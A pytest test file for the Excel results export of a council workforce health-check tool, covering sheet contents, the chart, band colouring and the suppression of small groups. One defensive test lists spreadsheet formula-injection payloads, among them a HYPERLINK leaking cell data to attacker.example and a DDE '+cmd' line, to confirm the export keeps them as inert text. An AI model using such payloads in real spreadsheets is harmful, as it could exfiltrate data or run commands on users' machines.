"""The results sheets of the workbook (Summary, Standards, Teams, Comments): what they show,
the chart and the band colours, and that the reporting threshold holds in them as on the
results pages: a hidden group is words, never a number, and no subtraction gives it away."""

import io

import openpyxl
import pytest
import test_differencing as differencing
from openpyxl.chart import BarChart
from results_seed import SMALL, STRUGGLING, released, seed_results

from healthcheck import cycles
from healthcheck.results import compute as results
from healthcheck.workbook.build import build_workbook, workbook_bytes

K = 5
# The differencing fixtures, reused as they are: the small team alone in its area, and inside a larger one.
seeded = differencing.seeded
small_team_truth = differencing.small_team_truth


def export(db, cycle):
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes(build_workbook(db, cycle, "psw@council.example"))))


def rows_of(sheet, min_row=1):
    return [list(row) for row in sheet.iter_rows(min_row=min_row, values_only=True)]


def heatmap(sheet, first_header):
    """{group name: row values} for the Teams sheet's table headed by first_header ("Team" or "Service area")."""
    start = next(row[0].row for row in sheet.iter_rows() if row[0].value == first_header)
    header = [cell.value for cell in sheet[start]]
    table = {}
    for row in sheet.iter_rows(min_row=start + 1, values_only=True):
        if row[0] in (None, ""):
            break
        table[row[0]] = dict(zip(header, row))
    return header, table


@pytest.fixture
def council(db, make_cycle):
    cycles.set_organisation_name(db, "Northfield Borough Council")
    return seed_results(db, make_cycle)


def test_summary_gives_the_cycle_and_every_standard(db, council):
    view = results.results_for(db, council)
    sheet = export(db, council)["Summary"]
    facts = {row[0]: row[1] for row in rows_of(sheet, 3)[:8]}
    assert facts["Organisation"] == "Northfield Borough Council"
    assert facts["Cycle"] == council["name"]
    assert facts["Responses"] == view["respondents"] == 68
    assert facts["Response rate"] == pytest.approx(view["response_rate"] / 100)
    assert facts["Compared with"] == "No earlier cycle to compare with"
    header_row = next(row[0].row for row in sheet.iter_rows() if row[0].value == "Standard")
    assert [cell.value for cell in sheet[header_row]][:5] == [
        "Standard",
        "Score",
        "Band",
        "Change since last cycle",
        "Coverage",
    ]
    standards = rows_of(sheet, header_row + 1)[:8]
    for row, standard in zip(standards, view["standards"]):
        assert row[0] == f"{standard['number']} {standard['title']}"
        assert row[1:4] == [standard["score"], standard["band"], "Not available"]
        assert row[4] == f"{standard['coverage']['with_data']} of {standard['coverage']['of']} steps with data"
    assert sheet.cell(row=header_row + 1, column=2).data_type == "n"  # a number, so the chart can draw it


def test_summary_shows_the_change_since_last_cycle(db, make_cycle):
    earlier = seed_results(db, make_cycle, slug="health-check-2025", seed=3)
    db["cycles"].update(earlier["id"], {"status": "closed", "opens_on": "2025-10-01", "closes_on": "2025-11-30"})
    council = seed_results(db, make_cycle, slug="health-check-2026", seed=11)
    view = results.results_for(db, council)
    sheet = export(db, council)["Summary"]
    header_row = next(row[0].row for row in sheet.iter_rows() if row[0].value == "Standard")
    changes = [row[3] for row in rows_of(sheet, header_row + 1)[:8]]
    assert changes == [standard["change"] for standard in view["standards"]]
    assert all(isinstance(change, int) for change in changes)
    assert sheet.cell(row=header_row + 1, column=4).number_format == "+0;-0;0"
    assert {row[0]: row[1] for row in rows_of(sheet, 3)[:8]}["Compared with"] == "Health check 2025"


def test_summary_has_a_native_bar_chart_of_the_standard_scores(db, council):
    sheet = export(db, council)["Summary"]
    assert len(sheet._charts) == 1
    chart = sheet._charts[0]
    assert isinstance(chart, BarChart) and chart.type == "bar"
    assert len(chart.series) == 1
    header_row = next(row[0].row for row in sheet.iter_rows() if row[0].value == "Standard")
    series = chart.series[0]
    assert series.cat.numRef.f == f"'Summary'!$A${header_row + 1}:$A${header_row + 8}"
    assert series.val.numRef.f == f"'Summary'!$B${header_row + 1}:$B${header_row + 8}"
    assert series.tx.strRef.f == f"'Summary'!B{header_row}"  # the series is named by its header, "Score"
    assert (chart.y_axis.scaling.min, chart.y_axis.scaling.max) == (0, 100)


def test_each_bar_of_the_summary_chart_carries_its_bands_colour_with_the_band_in_words_beside_it(db, council):
    view = results.results_for(db, council)
    sheet = export(db, council)["Summary"]
    header_row = next(row[0].row for row in sheet.iter_rows() if row[0].value == "Standard")
    colours = {"Low": "CA3535", "Moderate": "8F5B00", "High": "0F7A52"}
    fills = {point.idx: point.spPr.solidFill.srgbClr for point in sheet._charts[0].series[0].dPt}
    points = {index: getattr(colour, "val", colour) for index, colour in fills.items()}
    assert len({standard["band"] for standard in view["standards"]}) > 1  # the bars are not all one colour
    for index, standard in enumerate(view["standards"]):
        assert points[index] == colours[standard["band"]], standard["number"]
        assert sheet.cell(row=header_row + 1 + index, column=3).value == standard["band"]  # the band in words


def test_a_standard_without_a_score_has_no_bar_and_says_so(db, make_cycle):
    cycle = released(db, make_cycle(status="closed"))
    sheet = export(db, cycle)["Summary"]
    header_row = next(row[0].row for row in sheet.iter_rows() if row[0].value == "Standard")
    first = rows_of(sheet, header_row + 1)[0]
    assert first[1] is None and first[2] == "No score"
    facts = {row[0]: row[1] for row in rows_of(sheet, 3)[:8]}
    assert facts["Responses"] == "Fewer than 5 responses" and facts["Response rate"] == "Not available"


def test_standards_sheet_lists_every_step_with_its_parts(db, council):
    view = results.results_for(db, council)
    sheet = export(db, council)["Standards"]
    header = [cell.value for cell in sheet[4]]
    assert header[:3] == ["Standard", "Step", "What the step asks"]
    assert {"Practitioners", "Organisation's view", "Workforce figures"} <= set(header)
    steps = {row[1]: dict(zip(header, row)) for row in rows_of(sheet, 5) if row[1] != "All steps"}
    expected = [step for standard in view["standards"] for step in standard["steps"]]
    numbered = [step for step in expected if not step["supplementary"]]
    assert sorted(key for key in steps if isinstance(key, int)) == sorted(step["number"] for step in numbered)
    step_15 = steps[15]
    card = next(step for step in numbered if step["number"] == 15)
    assert step_15["Score"] == card["score"] and step_15["Band"] == card["band"]
    assert step_15["Practitioners"] == card["parts"]["practitioner"]
    assert step_15["Organisation's view"] == card["parts"]["organisation"]
    assert step_15["Workforce figures"] == "No data"
    assert step_15["The organisation's answer"] == "Not in place"
    assert step_15["The organisation beside practitioners"] == card["gap"]
    assert steps[1]["Workforce figures"] == next(s for s in numbered if s["number"] == 1)["parts"]["workforce"]
    assert steps["Supplementary"]["Standard"].startswith(("7 ", "8 "))
    standard_rows = [row for row in rows_of(sheet, 5) if row[1] == "All steps"]
    assert [row[3] for row in standard_rows] == [standard["score"] for standard in view["standards"]]


def band_rules(sheet):
    return {str(ranges.sqref): [rule for rule in ranges.rules] for ranges in sheet.conditional_formatting}


def test_teams_sheet_is_a_heatmap_coloured_by_band(db, council):
    sheet = export(db, council)["Teams"]
    header, teams = heatmap(sheet, "Team")
    assert header[:5] == ["Team", "Service area", "Eligible staff", "Responses", "Response rate"]
    assert header[5] == "1 Clear social work accountability framework" and header[12] == "8 Effective partnerships"
    view = results.results_for(db, council)
    struggling = next(row for row in view["groups"]["team"] if row["name"] == STRUGGLING)
    assert [teams[STRUGGLING][name] for name in header[5:13]] == [cell["score"] for cell in struggling["standards"]]
    assert teams["Whole organisation"]["Responses"] == 68
    # the band is in words as well as colour: the number shows as "14 Low"
    row = next(cell.row for cell in sheet["A"] if cell.value == STRUGGLING)
    low_cell = next(cell for cell in sheet[row][5:13] if cell.value <= 50)
    assert low_cell.number_format == '0" Low"'
    rules = band_rules(sheet)
    ((cells, formats),) = rules.items()
    assert cells.startswith("F6:M")
    assert [rule.type for rule in formats] == ["expression"] * 3
    assert [rule.formula[0] for rule in formats] == [
        "AND(ISNUMBER(F6),F6>=0,F6<=50)",
        "AND(ISNUMBER(F6),F6>=51,F6<=74)",
        "AND(ISNUMBER(F6),F6>=75,F6<=100)",
    ]
    assert all(
        rule.dxf.fill.fgColor.rgb.endswith(colour) for rule, colour in zip(formats, ["F6D7D2", "FFF1C2", "CCE2D8"])
    )


def test_hidden_groups_are_words_never_numbers(db, council):
    sheet = export(db, council)["Teams"]
    header, teams = heatmap(sheet, "Team")
    small = teams[SMALL]
    figures = header[3:13]
    assert all(small[name] == "Fewer than 5 responses" for name in figures)
    assert small["Note"] == "Fewer than 5 responses: included in Other teams"
    combined = teams["Other teams"]
    assert isinstance(combined["Responses"], int) and combined["Note"].startswith("Combined: ")
    for table in ("Team", "Service area"):
        _, rows = heatmap(sheet, table)
        for name, row in rows.items():
            if isinstance(row["Responses"], str):
                assert all(isinstance(row[column], str) for column in figures), name
    # and in the cells themselves: text, so no spreadsheet sums them
    small_row = next(cell.row for cell in sheet["A"] if cell.value == SMALL)
    assert all(cell.data_type == "s" for cell in sheet[small_row][3:13])


def test_attack_on_the_workbook_recovers_nothing(db, seeded, small_team_truth):
    book = export(db, seeded)
    sheet = book["Teams"]
    header, teams = heatmap(sheet, "Team")
    _, services = heatmap(sheet, "Service area")
    columns = header[5:13]

    def group(row):
        return row["Responses"], [row[name] for name in columns]

    def shown(row):
        return isinstance(row["Responses"], int) and all(isinstance(row[name], int) for name in columns)

    whole = teams.pop("Whole organisation")
    services.pop("Whole organisation")
    total = group(whole)
    summary = book["Summary"]
    header_row = next(row[0].row for row in summary.iter_rows() if row[0].value == "Standard")
    assert [row[1] for row in rows_of(summary, header_row + 1)[:8]] == total[1]
    assert not any(
        isinstance(value, (int, float)) for name, value in teams[SMALL].items() if name not in ("Eligible staff",)
    )
    shown_teams = {name: (*group(row), differencing.AREA.get(name)) for name, row in teams.items() if shown(row)}
    shown_services = {name: group(row) for name, row in services.items() if shown(row)}
    differencing.run_attacks(total, shown_teams, shown_services, small_team_truth)
    # the responses shown add up to the whole organisation: nothing is left over to subtract
    assert sum(row["Responses"] for row in teams.values() if isinstance(row["Responses"], int)) == total[0]


def test_comments_by_standard_only_where_the_threshold_allows(db, council):
    view = results.results_for(db, council)
    sheet = export(db, council)["Comments"]
    assert [cell.value for cell in sheet[4]] == ["Standard", "Group", "Question", "Comment"]
    rows = rows_of(sheet, 5)
    written = [(row[0], row[1], row[3]) for row in rows if row[3] != "No comments"]
    expected = [
        (
            f"{number} {next(s['title'] for s in view['standards'] if s['number'] == number)}",
            comment["group"],
            comment["text"],
        )
        for number, comments in view["comments"].items()
        for comment in comments
    ]
    assert written == expected and len(written) == 32
    groups = {group for _, group, _ in written}
    # Only groups of at least the comment threshold (10) are named: "Other teams" has 9.
    assert groups == {"Adults Locality North", "Adults Locality South", "Front Door and MASH", None}
    # the small team's comments carry no group at all, neither its own name nor a combined one
    assert {group for _, group, text in written if text.startswith(SMALL)} == {None}
    assert sheet.auto_filter.ref == f"A4:D{4 + len(rows)}"


def test_no_comments_before_the_threshold_is_reached(db, make_cycle):
    from healthcheck.survey.store import Response, store_response

    cycle = make_cycle(status="open")
    bank = cycles.cycle_bank(cycle)
    team = cycles.teams_for(db, cycle["id"])[0]
    for number in range(K - 1):
        store_response(
            db,
            cycle,
            bank,
            Response(
                team_id=team["id"], role_group="social_worker", answers={}, comments={3: f"Secret comment {number}"}
            ),
        )
    sheet = export(db, released(db, cycle))["Comments"]
    text = " ".join(str(value) for row in rows_of(sheet) for value in row if value)
    assert "Secret comment" not in text
    assert "Comments are shown once at least 5 people have answered." in text


CRAFTED = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "-2+3",
    "=1+1",
]


def test_formula_crafted_comments_and_names_are_never_formulas(db, make_cycle):
    cycle = seed_results(db, make_cycle, release=False)
    response_ids = [
        row["id"] for row in db.query("select id from responses where cycle_id = ? order by id", [cycle["id"]])
    ]
    # stored as they are, whatever the survey would have trimmed: the workbook must be safe regardless
    db["comments"].insert_all(
        {"response_id": response_ids[index], "standard": 5, "text": text} for index, text in enumerate(CRAFTED)
    )
    team = cycles.teams_for(db, cycle["id"])[0]
    db["teams"].update(team["id"], {"name": '=HYPERLINK("http://attacker.example")'})
    db["cycles"].update(cycle["id"], {"name": "@SUM(1)"})
    book = export(db, released(db, cycles.get_cycle(db, cycle["slug"])))
    assert [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ] == []
    comments = {row[3].value: row[3] for row in book["Comments"].iter_rows(min_row=5)}
    for text in CRAFTED:
        assert comments[text].data_type == "s" and comments[text].quotePrefix, text
    teams = [row[0] for row in rows_of(book["Teams"])]
    assert '=HYPERLINK("http://attacker.example")' in teams


def test_the_results_sheets_read_only_the_disclosable_view(db, council, monkeypatch):
    """Whatever results_for says is what the workbook says: it has no other way to the scores."""
    view = results.results_for(db, council)
    view["standards"][0]["score"] = 42
    view["groups"]["team"][0]["standards"][0]["score"] = 13
    view["comments"] = {number: [] for number in view["comments"]}
    monkeypatch.setattr(results, "results_for", lambda db, cycle: view)
    book = export(db, council)
    summary = book["Summary"]
    header_row = next(row[0].row for row in summary.iter_rows() if row[0].value == "Standard")
    assert summary.cell(row=header_row + 1, column=2).value == 42
    _, teams = heatmap(book["Teams"], "Team")
    assert teams[view["groups"]["team"][0]["name"]]["1 Clear social work accountability framework"] == 13
    assert {row[3] for row in rows_of(book["Comments"], 5)} == {"No comments"}
